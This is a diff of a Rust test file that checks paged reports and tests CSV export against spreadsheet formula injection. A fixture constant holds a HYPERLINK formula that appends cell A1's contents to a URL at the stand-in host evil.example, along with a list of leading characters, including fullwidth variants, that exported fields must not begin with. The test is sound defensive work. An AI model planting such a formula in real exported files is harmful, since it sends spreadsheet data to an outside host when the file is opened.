@@ -14,7 +14,10 @@ use reminderly_tests::material;
 use reminderly_tests::world::{Setup, World, instant};
 
 /// What a spreadsheet must not run.
-const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")";
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\");＝1;\n-2";
+
+/// What stands for it in a file.
+const GUARDED: &str = "'=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\");'＝1;'\n'-2";
 
 /// Somebody who confirms, somebody whom nothing reaches, somebody without a number; and another file.
 fn world() -> (World, CompanyId, CampaignId) {
@@ -44,7 +47,7 @@ fn paged(world: &World, company: CompanyId, on: ReportOn, limit: usize) -> Vec<R
     let (mut all, mut after) = (Vec::new(), None);
     loop {
         let page = block_on(service.page(&scope, on, after, limit)).unwrap();
-        assert!(page.items.len() <= limit);
+        assert!(page.items.len() <= limit.max(1));
         all.extend(page.items);
         after = page.next;
         if after.is_none() {
@@ -62,7 +65,7 @@ fn breakdown(world: &World, company: CompanyId, on: ReportOn) -> Breakdown {
 fn every_message_is_on_one_page() {
     let (world, company, id) = world();
     let all = paged(&world, company, ReportOn::Campaign(id), 100);
-    for limit in 1..4 {
+    for limit in 0..4 {
         assert_eq!(paged(&world, company, ReportOn::Campaign(id), limit), all, "{limit} on a page");
     }
     let packets = world.open_packets();
@@ -116,10 +119,10 @@ fn a_csv_file_has_every_message_and_no_formula() {
         assert_eq!(row["contact"], contact, "a number is no sum");
     }
     let of_formula = rows.iter().find(|row| row["row"] == "4").unwrap();
-    assert_eq!(of_formula["person"], format!("'{FORMULA}"));
+    assert_eq!(of_formula["person"], GUARDED);
     assert_eq!((&*rows[0]["response"], &*rows[0]["appointment_at"]), ("confirmed", "2026-03-04T21:00:00Z"));
     assert_eq!(rows[2]["reason"], "no_contact_point");
-    let formulas = ['=', '+', '-', '@', '\t', '\r'];
+    let formulas = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
     let fields = rows.iter().flat_map(BTreeMap::values);
     assert!(fields.into_iter().all(|field| !field.starts_with(formulas)));
 }
